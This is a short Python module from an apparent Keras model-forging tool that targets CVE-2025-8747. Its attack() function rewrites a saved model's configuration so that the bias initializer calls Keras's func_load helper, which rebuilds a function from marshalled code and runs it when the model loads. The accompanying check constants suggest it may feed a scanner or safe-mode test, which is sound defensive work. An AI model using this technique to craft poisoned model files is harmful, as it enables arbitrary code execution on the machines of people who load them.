"""A function of Keras itself that makes a function of marshalled code (CVE-2025-8747)."""

from pathlib import Path

from forging import BOTH, function, update_config

FORMATS = BOTH
CHECK, SAYS = "format", "'func_load'"


def attack(path: Path) -> None:
    update_config(path, bias_initializer=function("keras.src.utils.python_utils", "func_load"))
